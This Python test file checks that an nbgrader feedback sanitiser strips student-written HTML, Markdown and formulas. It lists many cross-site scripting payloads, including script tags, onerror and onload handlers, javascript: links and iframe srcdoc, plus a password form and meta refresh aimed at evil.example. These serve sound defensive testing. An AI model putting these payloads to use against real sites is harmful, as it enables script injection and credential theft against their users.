"""Feedback: nothing that a student wrote runs in a browser, and legitimate HTML stays."""

import base64
import re
import time
from html.parser import HTMLParser

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
from nbgrader_sealed.feedback.exporter import POLICY
from nbgrader_sealed.feedback.formulas import render_formulas, to_mathml
from nbgrader_sealed.feedback.sanitising import MAX_LINE, SanitiseOutputs, safe_markdown, sanitise
from traitlets.config.loader import PyFileConfigLoader

from engine.tests.attacks.tiny_course import TinyCourse, cell, new_code_cell
from tests.support import run

RUNS = ("script", "iframe", "object", "embed", "applet", "form", "base", "link", "frame", "foreignobject")
PIECES = [
    "<script>alert('evil')</script>",
    "<img src=x onerror=alert('evil')>",
    "<svg onload=alert('evil')><script>alert('evil')</script><circle r='2'/></svg>",
    "<a href='javascript:alert(1)'>link</a>",
    "<a href='  jAvAsCrIpT&colon;alert(1)'>link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></use><animate onbegin=alert(1)></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi><style><img src=x onerror=alert(1)></style></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example'; body { display: none }</style>",
    "<div style='background:url(https://evil.example); position: fixed; width: 1px'>text</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<img src='https://evil.example/pixel.png'>",
    "<!-- <script> -->",
    "</main></body><script>alert(1)</script>",
]


class Finder(HTMLParser):
    """Collect what in a page could run, or load from elsewhere."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found += [tag] if tag in RUNS else []
        for name, value in attributes:
            value = re.sub(r"\s", "", value or "").lower()
            bad_link = name in ("href", "src", "xlink:href", "action", "data", "srcdoc") and not re.match(
                r"(https?://|mailto:|#)" if name == "href" else r"data:image/", value
            )
            if name.startswith("on") or bad_link or (name == "style" and "url(" in value):
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def dangers(page: str) -> list[str]:
    return Finder(page).found


@pytest.mark.parametrize("piece", PIECES)
def test_what_runs_is_removed(piece):
    assert not dangers(sanitise(piece))


@given(st.lists(st.one_of(st.sampled_from(PIECES), st.sampled_from("<>\"'&/= \x00"), st.text(max_size=5))))
def test_no_mixture_of_pieces_runs(pieces):
    assert not dangers(sanitise("".join(pieces)))


@pytest.mark.parametrize(
    ("piece", "kept"),
    [
        ("<table><tr><th scope='row'>a</th><td colspan='2'>1</td></tr></table>", 'colspan="2"'),
        ("<img src='data:image/png;base64,AAAA' alt='a window'>", 'src="data:image/png;base64,AAAA"'),
        ("<svg viewBox='0 0 4 4'><rect x='1' fill='red'/><text>3</text></svg>", 'viewBox="0 0 4 4"'),
        ("<details><summary>more</summary>text</details>", "<summary>more</summary>"),
        ("<span style='color: red; position: fixed'>x</span>", 'style="color:red"'),
        ("<a href='https://example.org'>x</a>", 'href="https://example.org"'),
        ("a &lt; b and $x &lt; y$", "a &lt; b and $x &lt; y$"),
    ],
)
def test_what_is_legitimate_stays(piece, kept):
    assert kept in sanitise(piece)


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("the size $\\frac{n}{2}$ of", "<mfrac>"),
        ("$$x < y$$", '<math display="block">'),
        ("it costs $5 or $6", None),
        ("<code>$x$</code>", None),
        ("$" + "{" * 1500 + "$", None),
    ],
)
def test_a_formula_is_drawn_without_a_script(text, drawn):
    soup = BeautifulSoup(f'<div class="rendered_html">{text}</div>', "html.parser")
    render_formulas(soup)
    assert (drawn in str(soup)) if drawn else ("<math" not in str(soup))


@pytest.mark.parametrize("piece", [*PIECES, "javascript:alert(1)"])
@pytest.mark.parametrize("command", ["\\text{%s}", "\\href{%s}{x}", "\\style{%s}{x}", "\\class{%s}{x}", "%s"])
def test_a_formula_brings_nothing_that_runs(piece, command):
    assert not dangers(to_mathml(command.replace("%s", piece), block=False) or "")


def rendered(source, attachments=None):
    context = {"cell": {"attachments": attachments or {}}}
    return safe_markdown(context, source)


@pytest.mark.parametrize("name", ["full-credit", "score", "mark-graded", "comment", "tabbable", "btn"])
def test_no_class_of_a_students_is_one_that_a_script_listens_to(name):
    html = f'<details class="{name} dataframe"><summary class="{name}">proof</summary></details>'
    for page in (sanitise(html), rendered(f"text\n\n{html}")):
        assert name not in page
        assert 'class="dataframe"' in page


def test_the_colours_of_code_in_a_text_stay():
    assert '<span class="k">def</span>' in rendered("```python\ndef f(): pass\n```")


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 300_000,
        "<div></x>" * 1_000,
        "<b>" * 400 + "</b>" * 400,
        "&amp" * 1_000_000,
        "<a " + " ".join(f"a{n}" for n in range(300_000)) + ">x</a>",
    ],
    ids=["deep", "false ends", "closed", "entities", "attributes"],
)
def test_html_that_takes_long_to_clean_is_shown_as_text(html):
    start = time.monotonic()
    page = sanitise(html)
    assert time.monotonic() - start < 3
    assert page.startswith("<pre>&")
    assert len(page) < 100_000


def test_a_long_table_and_a_large_picture_are_no_long_html():
    table = "<table>" + "<tr><td>1</td><td>2</td></tr>" * 1_500 + "</table>"
    picture = f'<img src="data:image/png;base64,{"A" * 3_000_000}">'
    assert sanitise(table).startswith("<table>")
    assert sanitise(picture).startswith("<img")


def test_text_that_takes_long_to_read_is_shown_as_it_was_written():
    start = time.monotonic()
    assert rendered("\\begin{a}" * 11_000).startswith("<pre>\\begin{a}")
    assert time.monotonic() - start < 3


def test_outputs_and_code_of_a_page_have_an_end():
    html = "<i>x</i>" * 5_000
    shown = [new_output("display_data", {"text/html": html}) for _ in range(100)]
    long = new_code_cell("a." * 20_000 + "\nb = 1", outputs=shown)
    nb = new_notebook(cells=[long] + [new_code_cell("c = 1\n" * 16_000) for _ in range(40)])
    nb, _ = SanitiseOutputs().preprocess(nb, {})
    first, *_, last = (output.data["text/html"] for output in nb.cells[0].outputs)
    assert (first, last[:8]) == (html, "<pre>&lt")
    assert max(map(len, nb.cells[0].source.split("\n"))) <= MAX_LINE
    assert nb.cells[0].source.endswith("# ... the rest was left out\nb = 1")
    assert sum(len(cell.source) for cell in nb.cells) < 2_100_000


def test_a_picture_that_is_missing_is_its_name():
    assert "[p]" in rendered("![p](attachment:x.webp) text")
    assert "[x.webp]" in rendered("![](attachment:x.webp) text")
    assert "<img" not in rendered("![p](attachment:x.webp) text")
    kept = rendered("![p](<attachment:a b.png>)", {"a b.png": {"image/png": "AAAA"}})
    assert 'src="data:image/png;base64,AAAA"' in kept


SHOW = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
for piece in {pieces!r}:
    display(HTML(piece), Markdown(piece), Javascript("alert('evil')"), metadata={{'isolated': True}})
    print(piece)
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
display({{'text/html': '<b>ok</b>'}}, raw=True, metadata={{'text/html': {{'isolated': True}}}})
display({{'image/png': '"><script>alert(1)</script>', 'text/plain': 'picture'}}, raw=True)
raise ValueError({pieces!r})
"""


def in_spanish(nb):
    nb.metadata["lang"] = "es"
    cell(nb, "why").source = "Porque sí. ![dibujo](attachment:x.webp)"


def evil(nb):
    cell(nb, "why").source = "My **answer**\n\n" + "\n\n".join(PIECES)
    nb.cells.append(new_code_cell(SHOW.format(pieces=PIECES)))
    nb.metadata["title"] = PIECES[0]


@pytest.fixture(scope="module")
def course(processes, tmp_path_factory) -> TinyCourse:
    """A course with one student who tried every attack, and one who works in Spanish."""
    course = TinyCourse(tmp_path_factory.mktemp("feedback") / "course")
    course.hand_in("evil", evil)
    course.hand_in("spanish", in_spanish)
    course.autograde()
    course.feedback()
    return course


@pytest.fixture(scope="module")
def spanish(course) -> BeautifulSoup:
    """The page of a student who works in Spanish, and whose written answer nobody has graded."""
    return BeautifulSoup(course.page("spanish"), "html.parser")


@pytest.fixture(scope="module")
def page(course) -> str:
    """The attacker's feedback page, generated by nbgrader's own command."""
    return course.page("evil")


def test_a_feedback_page_has_nothing_that_runs(page):
    assert not dangers(page)


def test_a_feedback_page_allows_no_script_before_anything_else_is_read(page):
    head = page[page.index("<head>") + 6 :]
    assert re.match(r'\s*<meta content="[^"]*" http-equiv="Content-Security-Policy"', head)
    assert POLICY in head[:400]


def test_the_formgraders_page_runs_no_script_but_its_own(course):
    config = PyFileConfigLoader("nbgrader_config.py", path=str(course.root)).load_config()
    config.merge(FormgradeExtension().build_extra_config())
    resources = {"base_url": "", "notebook_path": "ps.ipynb", "index": 0, "total": 1}
    exporter = HTMLExporter(config=config)
    pages = {}
    for name in ("autograded/evil", "release"):
        path = course.root / name / "ps" / "ps.ipynb"
        pages[name], _ = exporter.from_filename(str(path), resources=dict(resources))
    assert "<strong>answer</strong>" in pages["autograded/evil"]
    assert set(dangers(pages["autograded/evil"])) <= set(dangers(pages["release"]))
    scripts = [re.findall(r"<script.*?</script>", page, re.DOTALL) for page in pages.values()]
    assert scripts[0] == scripts[1]


def test_a_picture_with_a_script_is_a_picture_only(page):
    pictures = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', page)
    assert any(b"onload" in base64.b64decode(picture) for picture in pictures)


def test_a_feedback_page_shows_the_answer_the_scores_and_that_hidden_tests_ran(page):
    assert "<strong>answer</strong>" in page
    assert "(5 of 5 points)" in page
    assert "<summary>Hidden tests ran here</summary>" in page


def test_what_stands_around_the_notebook_speaks_its_language(spanish):
    assert spanish.html["lang"] == "es"
    contents = [item.get_text() for item in spanish.select("#toc li")]
    assert "Prueba: double-test (3 de 3 puntos)" in contents
    around = " ".join(place.get_text() for place in spanish.select(".panel-heading, .panel-footer"))
    assert "Tu respuesta" in around
    assert not re.search("Score|Student|Grade cell|Test cell|Written|Comments|Top", around)


def test_an_answer_that_nobody_has_graded_is_pending_and_the_total_provisional(spanish):
    assert "(10 de 11 puntos hasta ahora)" in spanish.h4.get_text()
    contents = [item.get_text() for item in spanish.select("#toc li")]
    assert "Respuesta escrita: why (aún sin calificar; puntos posibles: 1)" in contents
    heading = spanish.find("a", attrs={"name": "why"}).find_next_sibling("div").get_text()
    assert "aún sin calificar" in heading


def test_a_page_whose_picture_is_missing_is_made(spanish):
    assert "Porque sí. [dibujo]" in spanish.get_text()


def test_an_answer_that_was_graded_has_its_points(processes, course):
    with Gradebook(f"sqlite:///{course.root}/gradebook.db") as gradebook:
        grade = gradebook.find_grade("why", "ps", "ps", "spanish")
        grade.manual_score, grade.needs_manual_grade = 0.5, False
        gradebook.db.commit()
    run("nbgrader", "generate_feedback", "ps", "--student=spanish", "--force", cwd=course.root)
    page = BeautifulSoup(course.page("spanish"), "html.parser")
    assert "(10.5 de 11 puntos)" in page.h4.get_text()
    assert "aún sin calificar" not in page.get_text()
